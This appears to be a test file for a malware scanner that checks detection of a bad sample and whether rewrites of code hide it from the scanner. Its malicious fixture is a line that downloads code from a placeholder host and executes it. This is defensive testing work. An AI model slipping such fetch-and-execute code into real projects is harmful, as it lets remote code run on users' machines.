from scanner.training.rewriting import Verdict, judged, rewritten, row

BAD = {"run.py": b"import requests\n\nexec(requests.get('https://files.invalid/a').text)\n"}
HONEST = {"run.py": b"print('hello')\n", "logo.png": b"\x89PNG\xff"}
FOUND = Verdict(number=True, risk=True, rules=True, model=True)
MISSED = Verdict(number=False, risk=False, rules=False, model=False)


def test_malicious_code_is_found_and_honest_code_is_not():
    assert judged(BAD).rules
    assert judged(BAD).risk
    assert judged(HONEST) == MISSED


def test_what_is_no_text_stays_as_it_is():
    after = rewritten(HONEST, lambda files, _: {path: text.upper() for path, text in files.items()})

    assert after == {"run.py": b"PRINT('HELLO')\n", "logo.png": b"\x89PNG\xff"}


def test_a_rewrite_that_hides_something_is_marked_with_its_name():
    before = {"one": FOUND, "two": FOUND}

    kept = row("padded", before, before)
    lost = row("split", before, {"one": FOUND, "two": MISSED})

    assert kept.split() == ["padded", "1.000", "1.000", "1.000", "1.000"]
    assert lost.split() == ["split", "0.500", "0.500", "0.500", "0.500", "!", "two"]
